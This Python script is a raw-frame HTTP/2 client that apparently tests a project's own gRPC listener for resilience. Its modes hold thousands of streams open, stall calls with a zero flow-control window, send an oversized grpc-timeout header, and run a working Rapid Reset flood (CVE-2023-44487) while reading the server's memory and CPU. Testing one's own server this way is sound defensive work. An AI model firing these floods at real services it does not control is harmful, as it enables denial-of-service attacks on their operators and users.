#!/usr/bin/python3
"""A hostile HTTP/2 client of the facade's gRPC listener, on one connection.

Written on raw frames (no HTTP/2 library: Debian 12 has none for Python 3
that we install), so it can do what a well-behaved client never does:

  open    HEADERS of N calls, never their request: N streams held open.
  unread  N whole calls with an initial window of 0: the server can never
          send an answer, so each stays buffered on its side.
  reset   Rapid Reset (CVE-2023-44487): HEADERS then RST_STREAM at once,
          for --seconds, as fast as the socket takes them.
  call    One call with any --grpc-timeout header (2600000H: about 296
          years, past what gRPC libraries send); says whether an answer
          message came back.

open and unread first ACK the server's SETTINGS (as every HTTP/2 library
does), so the server's SETTINGS_MAX_CONCURRENT_STREAMS is in force; then,
after the last frame, a PING: its ACK means the server has read everything
before it. They print one line of JSON (what the server advertised, how many
streams it refused, whether it sent GOAWAY) and then hold the connection
for --hold seconds, so a test can measure the server meanwhile. reset
prints what it sent and, given the server's --pid, the server's memory and
CPU before, at the end and --settle seconds after: what the in-process
bounds achieve against it.

A benchmark-like tool: it prints figures and asserts nothing.
"""

import argparse
import json
import os
import socket
import struct
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
SETTINGS_MAX_CONCURRENT_STREAMS, SETTINGS_INITIAL_WINDOW_SIZE = 0x3, 0x4
METHOD = "/gong.flows.v1.FlowService/UnassignByInstanceIds"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def hpack_literal(name, value):
    # Literal header field without indexing, new name, no Huffman coding.
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_headers(authority, grpc_timeout=None):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", METHOD),
              (":authority", authority), ("content-type", "application/grpc"),
              ("te", "trailers")]
    if grpc_timeout:
        fields.append(("grpc-timeout", grpc_timeout))
    return b"".join(hpack_literal(n, v) for n, v in fields)


def grpc_message(flow_instance_id):
    body = b"\x0a" + hpack_int(len(flow_instance_id), 7) + flow_instance_id.encode()
    return b"\x00" + struct.pack(">I", len(body)) + body


class Connection:
    def __init__(self, address, initial_window):
        host, port = address.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)))
        self.buffer = b""
        self.server_settings = {}
        self.refused = 0
        self.goaway = False
        settings = struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, initial_window)
        self.sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))

    def read_frame(self):
        while len(self.buffer) < 9 or len(self.buffer) < 9 + int.from_bytes(self.buffer[:3], "big"):
            chunk = self.sock.recv(65536)
            if not chunk:
                return None
            self.buffer += chunk
        length = int.from_bytes(self.buffer[:3], "big")
        kind, flags = self.buffer[3], self.buffer[4]
        stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
        payload = self.buffer[9:9 + length]
        self.buffer = self.buffer[9 + length:]
        if kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload), 6):
                key, value = struct.unpack(">HI", payload[i:i + 6])
                self.server_settings[key] = value
            self.sock.sendall(frame(SETTINGS, ACK, 0))
        elif kind == RST_STREAM:
            self.refused += 1
        elif kind == GOAWAY:
            self.goaway = True
        return kind, flags, stream, payload

    def await_settings(self):
        while True:
            got = self.read_frame()
            if got is None or got[0] == SETTINGS and not got[1] & ACK:
                return

    def await_ping_ack(self):
        """True once the server has read all we sent; False if it hung up."""
        self.sock.sendall(frame(PING, 0, 0, b"flood-ok"))
        while True:
            got = self.read_frame()
            if got is None:
                return False
            if got[0] == PING and got[1] & ACK:
                return True


def flood(args):
    conn = Connection(args.address, 0 if args.mode == "unread" else 65535)
    conn.await_settings()
    headers = request_headers(args.address)
    batch = []
    sent = 0
    for i in range(args.streams):
        stream = 1 + 2 * i
        if args.mode == "open":
            batch.append(frame(HEADERS, END_HEADERS, stream, headers))
        else:
            batch.append(frame(HEADERS, END_HEADERS, stream, headers))
            batch.append(frame(DATA, END_STREAM, stream, grpc_message(str(1000 + i % 300))))
        if len(batch) >= 200 or i == args.streams - 1:
            try:
                conn.sock.sendall(b"".join(batch))
            except OSError:
                break
            sent = i + 1
            batch = []
    read_all = False
    try:
        read_all = conn.await_ping_ack()
    except OSError:
        pass
    advertised = conn.server_settings.get(SETTINGS_MAX_CONCURRENT_STREAMS)
    print(json.dumps({"mode": args.mode, "streams_sent": sent,
                      "max_concurrent_streams": advertised,
                      "refused": conn.refused, "goaway": conn.goaway,
                      "server_read_all": read_all}), flush=True)
    time.sleep(args.hold)  # hold the connection (and its streams) meanwhile


def one_call(args):
    """One call with the given grpc-timeout header, which no gRPC library
    sends past what it can represent; reports whether a response message
    came (only an OK call has one)."""
    conn = Connection(args.address, 65535)
    conn.await_settings()
    conn.sock.sendall(frame(HEADERS, END_HEADERS, 1,
                            request_headers(args.address, args.grpc_timeout)) +
                      frame(DATA, END_STREAM, 1, grpc_message(args.id)))
    conn.sock.settimeout(args.seconds)
    message, ended = False, False
    while not ended:
        got = conn.read_frame()
        if got is None:
            break
        kind, flags, stream, payload = got
        if stream != 1:
            continue
        message = message or (kind == DATA and len(payload) > 0)
        ended = kind == RST_STREAM or (kind in (HEADERS, DATA) and bool(flags & END_STREAM))
    print(json.dumps({"mode": "call", "grpc_timeout": args.grpc_timeout, "ended": ended,
                      "response_message": message}), flush=True)


def server_figures(pid):
    """The server's resident and peak memory (MB) and CPU time (s), from
    /proc; {} without a pid."""
    if not pid:
        return {}
    figures = {}
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            key, _, value = line.partition(":")
            if key in ("VmRSS", "VmHWM"):
                figures[key.lower() + "_mb"] = int(value.split()[0]) // 1024
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    figures["cpu_s"] = round((int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK"), 1)
    return figures


def rapid_reset(args):
    before = server_figures(args.pid)
    conn = Connection(args.address, 65535)
    conn.await_settings()
    headers = request_headers(args.address)
    rst = struct.pack(">I", 0x8)  # CANCEL
    stream, pairs = 1, 0
    started = time.monotonic()
    deadline = started + args.seconds
    try:
        while time.monotonic() < deadline:
            batch = []
            for _ in range(100):
                batch.append(frame(HEADERS, END_HEADERS, stream, headers))
                batch.append(frame(RST_STREAM, 0, stream, rst))
                stream += 2
            conn.sock.sendall(b"".join(batch))
            pairs += 100
            if stream > 2**31 - 256:
                break
    except OSError:
        pass
    elapsed = time.monotonic() - started
    during = server_figures(args.pid)
    conn.sock.close()
    time.sleep(args.settle if args.pid else 0)
    print(json.dumps({"mode": "reset", "streams_reset": pairs,
                      "seconds": round(elapsed, 2),
                      "resets_per_second": round(pairs / elapsed),
                      "server_before": before, "server_at_end": during,
                      "server_after_settle": server_figures(args.pid)}), flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("address", help="HOST:PORT of a plaintext gRPC listener")
    parser.add_argument("--mode", choices=["open", "unread", "reset", "call"], required=True)
    parser.add_argument("--streams", type=int, default=10000)
    parser.add_argument("--seconds", type=float, default=20.0,
                        help="reset: how long; call: how long to wait for the answer")
    parser.add_argument("--pid", type=int, default=0,
                        help="reset: the server's pid, to print its memory and CPU")
    parser.add_argument("--settle", type=float, default=10.0,
                        help="reset: seconds after the attack to read the server again")
    parser.add_argument("--grpc-timeout", default=None, help="call: the grpc-timeout header")
    parser.add_argument("--id", default="1001", help="call: the flow instance id")
    parser.add_argument("--hold", type=float, default=600.0,
                        help="open, unread: how long to hold the connection after")
    args = parser.parse_args()
    if args.mode == "reset":
        rapid_reset(args)
    elif args.mode == "call":
        one_call(args)
    else:
        flood(args)


if __name__ == "__main__":
    main()
